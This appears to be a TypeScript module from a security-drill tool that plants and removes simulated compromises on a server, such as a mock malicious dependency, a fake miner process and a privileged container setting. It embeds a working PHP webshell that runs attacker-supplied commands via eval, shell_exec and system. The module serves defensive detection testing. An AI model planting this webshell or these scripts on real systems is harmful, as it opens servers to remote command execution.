/**
 * What a drill's faults plant and the shell scripts that plant and remove them, built by small
 * pure functions (`faults.ts` runs them through the site's target): the webshell and the
 * malicious dependency's payloads, a file planted or restored byte for byte, a process under a
 * miner's name, `privileged: true` in a compose file.
 *
 * @example
 * ```ts
 * import { plantScript, WEBSHELL } from "./fault_scripts.ts";
 * console.log(plantScript("/srv/app/current/uploads/shell.php", WEBSHELL));
 * ```
 * @module
 */
import { shellQuote as q } from "../shell/quote.ts";

/**
 * A path on the target as one shell word; a leading `~/` stays the target user's home.
 *
 * @example
 * ```ts
 * targetPath("~/.protocol/key"); // "\"$HOME\"/.protocol/key"
 * ```
 */
export function targetPath(path: string): string {
  return path.startsWith("~/") ? `"$HOME"/${q(path.slice(2))}` : q(path);
}

/**
 * Plants `text` at `path` (creating missing directories), printing `before=<base64>` when a
 * file was there and `created=<dir>` for each directory it made. Pure.
 *
 * @example
 * ```ts
 * plantScript("/app/current/uploads/x.php", "<?php", 0).includes("base64 -d"); // true
 * ```
 */
export function plantScript(path: string, text: string, ageDays?: number): string {
  const file = targetPath(path);
  const payload = btoa(String.fromCharCode(...new TextEncoder().encode(text)));
  return `set -e
f=${file}
d=$(dirname "$f"); missing=""
while [ ! -e "$d" ]; do missing="$d $missing"; d=$(dirname "$d"); done
for m in $missing; do mkdir "$m"; echo "created=$m"; done
if [ -f "$f" ]; then echo "before=$(base64 -w0 < "$f")"; fi
printf '%s' ${q(payload)} | base64 -d > "$f"${
    ageDays
      ? `
touch -d ${q(`@${Math.floor((Date.now() - ageDays * 86_400_000) / 1000)}`)} "$f"`
      : ""
  }`;
}

/**
 * Puts a file back as it was (or removes it) and removes the directories the drill made. Pure.
 *
 * @example
 * ```ts
 * restoreScript("/a/x", undefined, ["/a"]).includes("rmdir"); // true
 * ```
 */
export function restoreScript(path: string, before: string | undefined, created: string[]): string {
  const file = targetPath(path);
  const restore = before === undefined
    ? `rm -f ${file}`
    : `printf '%s' ${q(before)} | base64 -d > ${file}`;
  return [restore, ...[...created].reverse().map((dir) => `rmdir ${q(dir)} 2>/dev/null || true`)]
    .join("\n");
}

/**
 * Starts a process under argv[0] `name` in its own session; prints its pid. Pure.
 *
 * @example
 * ```ts
 * minerScript("xmrig").startsWith("setsid"); // true
 * ```
 */
export function minerScript(name: string): string {
  return `setsid bash -c ${q(`exec -a ${name} sleep 3600`)} </dev/null >/dev/null 2>&1 & echo $!`;
}

/**
 * A PHP webshell: every construct the malicious-code check knows, as attackers write them.
 *
 * @example
 * ```ts
 * WEBSHELL.includes("shell_exec"); // true
 * ```
 */
export const WEBSHELL = `<?php
// drill webshell: injected by \`deno task drill\`, removed at the end of the drill
if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); }
if (isset($_GET['cmd'])) { echo shell_exec($_GET['cmd']); }
system($_REQUEST['s']);
`;

/**
 * A dependency's loader that decodes and runs a payload (the event-stream pattern).
 *
 * @example
 * ```ts
 * MALICIOUS_PACKAGE.includes("gzinflate"); // true
 * ```
 */
export const MALICIOUS_PACKAGE = `<?php
// drill: a malicious dependency, injected by \`deno task drill\`
namespace Acme\\Logger;
function boot() { $p = gzinflate(base64_decode('S03OyFdQL0nNTVQozy/KSVFUBwA=')); eval($p); }
boot();
`;
/**
 * Adds `privileged: true` to the first service of a compose file. Pure.
 *
 * @example
 * ```ts
 * addPrivileged("services:\n  web:\n    image: app\n").includes("privileged: true"); // true
 * ```
 */
export function addPrivileged(compose: string): string {
  const lines = compose.split("\n");
  const services = lines.findIndex((l) => /^services:\s*$/.test(l));
  const first = lines.findIndex((l, i) => i > services && /^ {2}[A-Za-z0-9_.-]+:\s*$/.test(l));
  if (services < 0 || first < 0) return `${compose.trimEnd()}\n  drill:\n    privileged: true\n`;
  lines.splice(first + 1, 0, "    privileged: true");
  return lines.join("\n");
}
